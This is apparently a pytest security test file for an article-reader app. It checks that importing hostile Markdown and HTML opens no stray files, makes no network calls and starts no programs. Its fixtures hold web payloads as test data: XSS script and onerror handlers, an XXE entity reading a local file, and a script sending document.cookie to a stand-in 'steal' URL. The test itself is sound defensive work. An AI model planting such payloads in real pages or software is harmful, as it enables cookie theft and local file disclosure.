"""Imports never fetch or execute anything: no socket, no process, and no file but the article itself is opened.

Each check runs in a fresh interpreter with an audit hook (`sys.addaudithook`) installed after the modules it needs
are imported: it records every `open` of a file, every socket event and every attempt to start a program. The
articles hold remote images, scripts, links and a front-matter path pointing at a local "secret" file; the secret
must never be opened, nothing may touch the network, and the hostile markup must come through as plain text.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from conftest import PROJECT_ROOT

AUDIT = """
import json, os, sys
events = {"opened": [], "network": [], "programs": []}
WATCH = ("socket.", "urllib.", "http.", "ftplib.", "smtplib.", "webbrowser.")
PROGRAMS = ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "os.startfile",
            "pty.spawn", "ctypes.dlopen")

def hook(event, args):
    if event == "open" and args and isinstance(args[0], (str, bytes, os.PathLike)):
        events["opened"].append(os.fsdecode(args[0]))
    elif event.startswith(WATCH):
        events["network"].append(event)
    elif event.startswith(PROGRAMS):
        events["programs"].append(event)
"""

HOSTILE_BODY = """## 小标题 <script>alert(1)</script>

高质量发展<img src="http://example.invalid/pixel.png">是首要任务。

![远程图片](http://example.invalid/track.gif) 和 [链接](https://example.invalid/) 以及 <iframe src="{secret}"></iframe>

<script src="https://example.invalid/x.js"></script><img src="{secret}" onerror="fetch('http://example.invalid')">

> 图片说明 ![](file://{secret})
"""


def hostile_markdown(secret: Path) -> str:
    """A Dubao Markdown file whose front matter and body point at a local secret and at remote resources."""
    front = (f"---\ntitle: 标题 <img src=\"{secret}\">\nsource-file: {secret}\nsource-page: file://{secret}\n"
             f"note: {secret}\n---\n\n")
    return front + HOSTILE_BODY.format(secret=secret)


@pytest.fixture
def hostile(tmp_path) -> tuple[Path, Path, Path]:
    """(secret file, hostile Markdown, the same hostile text as a plain .txt file)."""
    secret = tmp_path / "secret.png"
    secret.write_bytes(b"\x89PNG\r\n\x1a\n private")
    markdown = tmp_path / "hostile.md"
    markdown.write_text(hostile_markdown(secret), encoding="utf-8")
    plain = tmp_path / "hostile.txt"
    plain.write_text("外链测试\n\n" + HOSTILE_BODY.format(secret=secret), encoding="utf-8")
    return secret, markdown, plain


def audited(body: str, cwd: Path) -> dict:
    """Run `body` after the audit hook is installed (in a fresh interpreter); return the recorded events and result."""
    code = AUDIT + "\n" + body + "\nprint(json.dumps({'events': events, 'result': result}, ensure_ascii=False))\n"
    env = {"PYTHONPATH": str(PROJECT_ROOT), "QT_QPA_PLATFORM": "offscreen"}
    completed = subprocess.run([sys.executable, "-c", code], cwd=cwd, capture_output=True, text=True, timeout=120,
                               env={**os.environ, **env})
    assert completed.returncode == 0, completed.stderr
    return json.loads(completed.stdout.strip().splitlines()[-1])


IMPORT_BOTH = """
from reader.core.importer import load_article, to_markdown
sys.addaudithook(hook)
result = {{}}
for path in {paths!r}:
    article = load_article(path)
    result[path] = {{"title": article.title, "texts": [p.text for p in article.paragraphs()],
                    "headings": [s.heading for s in article.sections], "markdown": to_markdown(article)}}
"""


def test_importing_hostile_markup_opens_only_the_article_and_never_the_network(hostile, tmp_path):
    secret, markdown, plain = hostile
    run = audited(IMPORT_BOTH.format(paths=[str(markdown), str(plain)]), tmp_path)
    events = run["events"]
    assert str(secret) not in events["opened"] and f"file://{secret}" not in events["opened"]
    assert set(events["opened"]) <= {str(markdown), str(plain)}
    assert events["network"] == [] and events["programs"] == []
    imported = run["result"][str(markdown)]
    assert imported["title"] == f"标题 <img src=\"{secret}\">"  # kept as text, never followed
    assert imported["headings"][0] == "小标题 <script>alert(1)</script>"
    assert any("<img src=\"http://example.invalid/pixel.png\">" in text for text in imported["texts"])
    assert any(text.startswith("![远程图片](http://example.invalid/track.gif)") for text in imported["texts"])
    assert "<script" in run["result"][str(plain)]["markdown"]


WINDOW = """
from PySide6.QtCore import QCoreApplication
from reader.ui import services
from reader.ui.app import build_window, create_application
sys.path.insert(0, {tests!r})
from test_ui_helpers import hand_made_reading
services.start_reading = hand_made_reading()
app = create_application()
window = build_window()
window.resize(900, 700)
window.show()
sys.addaudithook(hook)
opened = window.open_path({markdown!r})
for _ in range(50):
    QCoreApplication.processEvents()
window.grab()
refused = window.open_path({bad_name!r})
for _ in range(20):
    QCoreApplication.processEvents()
window.grab()
result = {{"opened": opened, "refused": not refused, "banner": window.banner.text(),
           "title": window.view.document.article.title}}
"""


class FifoWatch(threading.Thread):
    """Notices when anything opens a FIFO for reading (also from C++, which the audit hook cannot see)."""

    def __init__(self, fifo: Path) -> None:
        super().__init__(daemon=True)
        self.fifo, self.opened, self.stop = fifo, False, threading.Event()

    def run(self) -> None:
        while not self.stop.is_set():
            try:
                descriptor = os.open(self.fifo, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:  # ENXIO: nobody has it open for reading
                time.sleep(0.005)
                continue
            self.opened = True
            try:
                os.write(descriptor, b"x")
            except BrokenPipeError:
                pass  # the reader gave up already
            os.close(descriptor)


def test_the_window_shows_hostile_markup_as_text_and_fetches_nothing(tmp_path):
    secret = tmp_path / "secret.png"
    os.mkfifo(secret)
    markdown = tmp_path / "hostile.md"
    markdown.write_text(hostile_markdown(secret), encoding="utf-8")
    bad_name = tmp_path / f'<img src="{secret.name}"> 坏.txt'
    bad_name.write_bytes(b"")
    body = WINDOW.format(tests=str(PROJECT_ROOT / "tests"), markdown=str(markdown), bad_name=str(bad_name))
    watch = FifoWatch(secret)
    watch.start()
    try:
        run = audited(body, tmp_path)
    finally:
        watch.stop.set()
        watch.join()
    events, result = run["events"], run["result"]
    assert result["opened"] and result["refused"]
    assert result["title"] == f"标题 <img src=\"{secret}\">"
    assert result["banner"] == f"Could not open {bad_name.name}: is empty"
    assert not watch.opened, "the window opened a file named inside the article or its file name"
    assert str(secret) not in events["opened"] and secret.name not in events["opened"]
    assert events["network"] == [] and events["programs"] == []


HOSTILE_PAGE = """<?xml version="1.0"?>
<!DOCTYPE html [<!ENTITY secret SYSTEM "file://{secret}"><!ENTITY % remote SYSTEM "http://example.invalid/x.dtd"> %remote;]>
<html><head><title>外链测试页_示例网</title><base href="http://example.invalid/">
<link rel="stylesheet" href="{secret}"><link rel="preload" href="http://example.invalid/font.woff">
<meta http-equiv="refresh" content="0; url=http://example.invalid/">
<script src="http://example.invalid/x.js"></script><script>document.title = "脚本运行了";</script>
<style>@import url("{secret}"); body {{ background: url(http://example.invalid/bg.png) }}</style></head>
<body onload="fetch('http://example.invalid/onload')"><h1>外链测试页</h1>
<div class="content">
<p>第一段有<a href="javascript:alert(1)">一个脚本链接</a>，还有一张图片<img src="{secret}" onerror="alert(2)">，读者只看到文字。</p>
<iframe src="{secret}"></iframe><object data="http://example.invalid/o.swf"></object>
<p>第二段引用了实体&secret;，也嵌了<embed src="http://example.invalid/e.swf">插件，这些都不会被加载或运行。</p>
<p>第三段是最后一段，<video src="http://example.invalid/v.mp4" poster="{secret}"></video>到此结束，文章完整。</p>
<script>fetch("http://example.invalid/steal?" + document.cookie)</script>
</div></body></html>
"""

IMPORT_PAGE = """
from reader.core.importer import load_article
from reader.core.importer.webpage import assemble, blocks, chrome, decode, meta, mhtml, scoring, tree  # loaded lazily
sys.addaudithook(hook)
article = load_article({page!r})
result = {{"title": article.title, "texts": [p.text for p in article.paragraphs()]}}
"""


def test_importing_a_hostile_web_page_fetches_opens_and_runs_nothing(tmp_path):
    secret = tmp_path / "secret.png"
    secret.write_bytes(b"\x89PNG\r\n\x1a\n private")
    page = tmp_path / "hostile.html"
    page.write_text(HOSTILE_PAGE.format(secret=secret), encoding="utf-8")
    run = audited(IMPORT_PAGE.format(page=str(page)), tmp_path)
    events, result = run["events"], run["result"]
    assert events["opened"] == [str(page)]
    assert events["network"] == [] and events["programs"] == []
    assert result["title"] == "外链测试页"
    assert result["texts"][0] == "第一段有一个脚本链接，还有一张图片，读者只看到文字。"
    assert result["texts"][-1] == "第三段是最后一段，到此结束，文章完整。"
    assert not [t for t in result["texts"] if "fetch" in t or "alert" in t or "private" in t or "脚本运行了" in t]
